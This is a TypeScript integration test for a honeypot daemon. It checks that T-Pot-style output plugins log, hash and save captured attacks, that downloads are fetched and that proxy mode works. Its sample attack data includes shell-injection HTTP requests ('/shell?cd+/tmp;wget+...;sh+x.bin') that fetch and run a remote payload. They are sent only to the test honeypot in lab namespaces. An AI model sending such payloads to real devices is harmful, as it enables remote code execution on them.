// Issue 6: the T-Pot outputs in a running daemon. log-json, log-attacker and
// save-file are copied into a plugins folder as an operator installs them,
// their files folders laid out as T-Pot's honeytrap container has them
// (log-json and log-attacker share <tmp>/honeytrap/log, save-file writes in
// <tmp>/honeytrap), and real ncat clients attack over IPv4 and IPv6
// loopback. Each attack must reach all three files, byte for byte what was
// sent, and the daemon must come up and run as it does without them.
// Then with http-download beside them, in namespaces: an attacker serving a
// file over nginx sends a wget line; the file it serves must be in
// attackers.json's downloads_0 fields and in save-file's downloads folder. A
// port in proxy mode (to nginx in a third namespace) gives operation_mode 8
// and the proxy connection.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cp, mkdir, readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runProgram, showAttack, type Attack } from '../lib/cli.js';
import { waitUntil } from '../lib/clients.js';
import { HoneytrapDaemon, REPO, cleanup, makeTempDir, testConfig } from '../lib/daemon.js';
import { Netns } from '../lib/netns.js';
import { requireTools } from '../lib/ns-clients.js';
import { startNginx } from '../lib/peer-servers.js';
import { waitPluginsReady } from '../lib/plugin-daemon.js';
import { freePort } from '../lib/ports.js';

const OUTPUTS = ['log-json', 'log-attacker', 'save-file'];

interface Record_ {
  plugin: string;
  status: string;
  findings: { type: string; value: string; meta?: Record<string, unknown> }[];
  error?: { code: string; message: string };
}

let tmp = '';
let logDir = '';
let saveDir = '';
let daemon: HoneytrapDaemon;
let port = 0;

const md5 = (b: Buffer): string => createHash('md5').update(b).digest('hex');
const sha512 = (b: Buffer): string => createHash('sha512').update(b).digest('hex');

/**
 * `ncat [-6] -p SRCPORT --send-only ADDRESS PORT` with `data` on its stdin: a
 * real client whose source port we choose, so its lines can be told apart.
 */
function ncat(address: string, data: Buffer, sourcePort: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const args = [...(address.includes(':') ? ['-6'] : []), '-p', String(sourcePort)];
    const child = spawn('ncat', [...args, '--send-only', address, String(port)], {
      stdio: ['pipe', 'ignore', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', reject);
    child.on('exit', (code) =>
      code === 0
        ? resolve()
        : reject(new Error(`ncat ${args.join(' ')} exited ${code}: ${stderr}`)),
    );
    child.stdin.end(data);
  });
}

/** The attack `d` stored for a client, once the records of `plugins` are there. */
async function attackFrom(
  address: string,
  sourcePort: number,
  d = daemon,
  plugins = OUTPUTS,
): Promise<Attack> {
  const line = await d.waitForLog(
    (l) =>
      l.msg === 'attack' &&
      (l.remote === `${address}:${sourcePort}` || l.remote === `[${address}]:${sourcePort}`),
    15_000,
    `the attack from ${address} port ${sourcePort}`,
  );
  const id = String(line.attack);
  let last: Attack | undefined;
  await waitUntil(
    async () => {
      last = await showAttack(d.storeDir, id);
      return plugins.every((p) => p in last!.plugins);
    },
    30_000,
    `the records of ${plugins.join(', ')} on attack ${id} (last: ${JSON.stringify(last?.plugins)})`,
  );
  return last!;
}

async function lines(file: string): Promise<string[]> {
  const text = await readFile(file, 'utf8');
  expect(text.endsWith('\n')).toBe(true);
  return text.slice(0, -1).split('\n');
}

/** Copies shipped plugins into `dir` as an operator installs them: the folders, without their tests. */
async function install(dir: string, names: string[]): Promise<void> {
  await mkdir(dir, { recursive: true });
  for (const p of names)
    await cp(join(REPO, 'plugins', p), join(dir, p), {
      recursive: true,
      filter: (src) => !/[/\\](test|node_modules|dist)$/.test(src),
    });
}

beforeAll(async () => {
  tmp = await makeTempDir('honeytrap-outputs-');
  const pluginsDir = join(tmp, 'plugins');
  logDir = join(tmp, 'honeytrap', 'log');
  saveDir = join(tmp, 'honeytrap');
  await install(pluginsDir, OUTPUTS);
  port = await freePort();
  daemon = await HoneytrapDaemon.start((dir) => ({
    ...testConfig(dir, {
      ports: [{ port, template: '80_tcp' }],
      capture: { addresses: ['127.0.0.1', '::1'] },
    }),
    plugins: {
      dirs: [pluginsDir],
      files: { dirs: { 'log-json': logDir, 'log-attacker': logDir, 'save-file': saveDir } },
    },
  }));
  await waitPluginsReady(daemon, OUTPUTS, 30_000);
}, 60_000);

afterAll(cleanup);

describe('log-json, log-attacker and save-file in a daemon', () => {
  const sent: { address: string; sourcePort: number; data: Buffer; attack?: Attack }[] = [
    {
      address: '127.0.0.1',
      sourcePort: 0,
      data: Buffer.from(
        'GET /shell?cd+/tmp;wget+http://192.0.2.9/x.sh HTTP/1.1\r\nHost: t\r\n\r\n',
      ),
    },
    {
      address: '::1',
      sourcePort: 0,
      data: Buffer.concat([
        Buffer.from('POST / HTTP/1.1\r\n\r\n'),
        Buffer.from([0, 1, 2, 0xff, 0x90]),
      ]),
    },
  ];

  test('the daemon starts as it does without them: ready on its port, no error logged', () => {
    const ready = daemon.logs.find((l) => l.msg.startsWith('honeytrap ready'));
    expect(ready?.msg).toBe(`honeytrap ready: trapping ${port}/tcp`);
    expect(daemon.errorLogs()).toEqual([]);
  });

  test('ncat attacks over IPv4 and IPv6 loopback are stored, each output plugin ok', async () => {
    for (const s of sent) {
      s.sourcePort = await freePort();
      await ncat(s.address, s.data, s.sourcePort);
      s.attack = await attackFrom(s.address, s.sourcePort);
      expect(Buffer.from(s.attack.received.data, 'base64')).toEqual(s.data);
      for (const p of OUTPUTS) {
        const r = s.attack.plugins[p] as Record_;
        expect([p, r.status, r.error]).toEqual([p, 'ok', undefined]);
      }
    }
  }, 60_000);

  test('attackers.json: one line per attack, the fields T-Pot reads', async () => {
    const got = (await lines(join(logDir, 'attackers.json'))).map(
      (l) => JSON.parse(l) as Record<string, unknown>,
    );
    expect(got).toHaveLength(sent.length);
    for (const s of sent) {
      const a = s.attack!;
      const rec = got.find(
        (r) => (r.attack_connection as { remote_port: number }).remote_port === s.sourcePort,
      );
      expect(rec).toBeDefined();
      expect(rec!['@timestamp']).toBe(`${a.startedAt.slice(0, 19)}Z`);
      expect(rec!.attack_connection).toEqual({
        protocol: 'tcp',
        remote_ip: s.address,
        remote_port: s.sourcePort,
        local_ip: s.address,
        local_port: port,
        payload: {
          md5_hash: md5(s.data),
          sha512_hash: sha512(s.data),
          length: s.data.length,
          data_hex: s.data.toString('hex'),
        },
      });
      expect(rec!.operation_mode).toBe(1);
      expect([rec!.download_count, rec!.download_tries, rec!.downloads]).toEqual([0, 0, {}]);
    }
  });

  test('attacker.log: honeytrap logAttacker lines, IPv6 in brackets', async () => {
    const got = await lines(join(logDir, 'attacker.log'));
    expect(got).toHaveLength(sent.length);
    for (const s of sent) {
      const a = s.attack!;
      const end = new Date(a.endedAt);
      const time = `${a.endedAt.slice(0, 10)} ${a.endedAt.slice(11, 19)}:${end.getUTCMilliseconds() * 1000}`;
      const ep = (addr: string, p: number) =>
        addr.includes(':') ? `[${addr}]:${p}` : `${addr}:${p}`;
      expect(got).toContain(
        `[${time} GMT] tcp ${ep(s.address, s.sourcePort)} -> ${ep(s.address, port)} ${md5(s.data)} ${sha512(s.data)} (${s.data.length} bytes)`,
      );
    }
  });

  test('save-file: each attack string in attacks/from_port_<port>-tcp_<id>_<date>, the bytes sent', async () => {
    const names = await readdir(join(saveDir, 'attacks'));
    expect(names.sort()).toEqual(
      sent
        .map((s) => `from_port_${port}-tcp_${s.attack!.id}_${s.attack!.startedAt.slice(0, 10)}`)
        .sort(),
    );
    for (const s of sent) {
      const name = `attacks/from_port_${port}-tcp_${s.attack!.id}_${s.attack!.startedAt.slice(0, 10)}`;
      expect(await readFile(join(saveDir, name))).toEqual(s.data);
      const r = s.attack!.plugins['save-file'] as Record_;
      expect(r.findings.map((f) => f.value)).toEqual([name]);
    }
  });
});

describe('with http-download and a proxy port, in namespaces', () => {
  const ATTACKER = '10.99.66.2';
  const SENSOR = '10.99.66.1';
  const TARGET = '10.99.67.2';
  const PROXY_PORT = 8081;
  const BIN = Buffer.concat([Buffer.from('\x7fELF\x01\x01\x01\x00'), Buffer.alloc(120, 0x41)]);
  let net: Netns;
  let d: HoneytrapDaemon;
  let dir = '';
  /** The trapped port, in the sensor's own namespace. */
  const hp = 8080;

  beforeAll(async () => {
    requireTools(['nginx', 'ncat']);
    net = Netns.create('outputs', ['att', 'hp', 'tgt']);
    net.link('att', `${ATTACKER}/24`, 'hp', `${SENSOR}/24`);
    net.link('tgt', `${TARGET}/24`, 'hp', '10.99.67.1/24');
    await startNginx(net, 'att', ATTACKER, 'index\n', 80, { files: { 'bins/x.bin': BIN } });
    await startNginx(net, 'tgt', TARGET, 'the proxied server\n', 80);
    dir = await makeTempDir('honeytrap-outputs-dl-');
    const pluginsDir = join(dir, 'plugins');
    await install(pluginsDir, [...OUTPUTS, 'http-download']);
    // http-download is bundled from its sources (dist/ is not shipped in the repository)
    const built = await runProgram(process.execPath, [
      join(REPO, 'sdk', 'bin', 'honeytrap-plugin.js'),
      'build',
      join(pluginsDir, 'http-download'),
    ]);
    expect(built.code, built.stdout + built.stderr).toBe(0);
    d = await HoneytrapDaemon.start(
      (store) => ({
        ...testConfig(store, { ports: [], capture: { addresses: [SENSOR] } }),
        ports: [
          { port: hp, template: '80_tcp' },
          { port: PROXY_PORT, mode: 'proxy', proxy: { target: `${TARGET}:80` } },
        ],
        plugins: {
          dirs: [pluginsDir],
          // 10.99.x.x is a private range: the lab's policy allows it
          network: { allowPrivate: true },
          files: {
            dirs: {
              'log-json': join(dir, 'log'),
              'log-attacker': join(dir, 'log'),
              'save-file': dir,
            },
          },
        },
      }),
      { netns: { net, node: 'hp' } },
    );
    await waitPluginsReady(d, [...OUTPUTS, 'http-download'], 30_000);
  }, 120_000);

  afterAll(async () => {
    await d?.stop();
    await net?.teardown();
  });

  test('a wget line: downloads_0 in attackers.json and downloads/<md5>-x.bin hold the file', async () => {
    const url = `http://${ATTACKER}/bins/x.bin`;
    const data = Buffer.from(
      `GET /shell?cd+/tmp;wget+${url};sh+x.bin HTTP/1.1\r\nHost: ${SENSOR}\r\n\r\n`,
    );
    const sourcePort = 45123;
    const r = await net.exec(
      'att',
      ['ncat', '-p', String(sourcePort), '--send-only', SENSOR, String(hp)],
      { input: data },
    );
    expect(r.code, r.stderr).toBe(0);
    const a = await attackFrom(ATTACKER, sourcePort, d, ['http-download', ...OUTPUTS]);
    const dl = (a.plugins['http-download'] as Record_).findings.filter(
      (f) => f.type === 'download',
    );
    expect(dl.map((f) => [f.value, f.meta?.status])).toEqual([[url, 'ok']]);
    for (const p of OUTPUTS) expect((a.plugins[p] as Record_).status).toBe('ok');

    const [line] = await lines(join(dir, 'log', 'attackers.json'));
    const rec = JSON.parse(line!) as Record<string, unknown>;
    expect([rec.download_count, rec.download_tries]).toEqual([1, 1]);
    expect(rec.downloads).toEqual({
      protocol_0: 'tcp',
      remote_ip_0: ATTACKER,
      remote_port_0: 80,
      local_ip_0: SENSOR,
      local_port_0: hp,
      type_0: 'http',
      username_0: '',
      password_0: '',
      uri_0: url,
      filename_0: 'x.bin',
      payload_0: {
        md5_hash: md5(BIN),
        sha512_hash: sha512(BIN),
        length: BIN.length,
        data_hex: BIN.toString('hex'),
      },
    });
    expect(await readFile(join(dir, 'downloads', `${md5(BIN)}-x.bin`))).toEqual(BIN);
    expect(await readdir(join(dir, 'attacks'))).toEqual([
      `from_port_${hp}-tcp_${a.id}_${a.startedAt.slice(0, 10)}`,
    ]);
    const [logLine] = await lines(join(dir, 'log', 'attacker.log'));
    expect(logLine).toContain(`tcp ${ATTACKER}:${sourcePort} -> ${SENSOR}:${hp} ${md5(data)} `);
  }, 60_000);

  test('proxy mode: operation_mode 8, proxy_connection the target and what it answered', async () => {
    const data = Buffer.from(`GET / HTTP/1.1\r\nHost: ${SENSOR}\r\nConnection: close\r\n\r\n`);
    const sourcePort = 45124;
    // no --send-only: ncat half-closes at the end of its input and reads the answer
    const r = await net.exec(
      'att',
      ['ncat', '-p', String(sourcePort), SENSOR, String(PROXY_PORT)],
      {
        input: data,
      },
    );
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('the proxied server');
    const a = await attackFrom(ATTACKER, sourcePort, d, ['http-download', ...OUTPUTS]);
    expect([a.mode, a.peer, a.fallback]).toEqual([
      'proxy',
      { address: TARGET, port: 80, role: 'proxy' },
      undefined,
    ]);
    const answer = Buffer.from(a.sent.data, 'base64');
    expect(answer.toString()).toContain('the proxied server');
    const rec = (await lines(join(dir, 'log', 'attackers.json')))
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .find((x) => (x.attack_connection as { local_port: number }).local_port === PROXY_PORT);
    expect(rec?.operation_mode).toBe(8);
    expect(rec?.proxy_connection).toEqual({
      protocol: 'tcp',
      remote_ip: TARGET,
      remote_port: 80,
      local_ip: '0.0.0.0',
      local_port: 0,
      payload: {
        md5_hash: md5(answer),
        sha512_hash: sha512(answer),
        length: answer.length,
        data_hex: answer.toString('hex'),
      },
    });
  }, 60_000);
});
